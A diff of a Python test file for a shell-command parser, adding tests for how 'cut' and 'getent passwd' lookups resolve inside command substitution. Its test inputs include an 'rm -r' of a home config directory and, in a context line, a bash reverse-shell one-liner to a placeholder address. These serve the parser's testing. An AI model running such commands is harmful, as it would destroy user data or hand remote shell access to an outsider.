@@ -516,6 +516,29 @@ def test_parse_bare_redirection_is_a_null_command(command: str, op: str, target:
     assert [(r.op, r.target) for r in null.redirects] == [(op, target)]
 
 
+def test_parse_getent_home_lookup_resolves() -> None:
+    result = parse('rm -r "$(getent passwd ci | cut -d: -f6)/.config"')
+    assert ["rm", "-r", "/home/ci/.config"] in _argvs(result)
+    assert not _find(result, "rm").dynamic
+
+
+@pytest.mark.parametrize(
+    "command, argv",
+    [
+        ("ls $(echo a:b:c | cut -d: -f2-3)", ["ls", "b:c"]),
+        ("ls $(echo a,b,c,d | cut -d , -f 1,4)", ["ls", "a,d"]),
+        ("ls $(echo nodelim | cut -d: -f2)", ["ls", "nodelim"]),
+    ],
+)
+def test_parse_cut_fields_of_known_text(command: str, argv: list[str]) -> None:
+    assert argv in _argvs(parse(command))
+
+
+@pytest.mark.parametrize("command", ["ls $(cut -d: -f1 /etc/group)", "ls $(echo abc | cut -c2)"])
+def test_parse_cut_of_unknown_text_stays_unknown(command: str) -> None:
+    assert _find(parse(command), "ls").dynamic
+
+
 def test_parse_redirect_descriptor_glued_to_next_redirect() -> None:
     result = parse("bash -i >& /dev/tcp/192.0.2.1/443 0>&1")
     bash = _find(result, "bash")
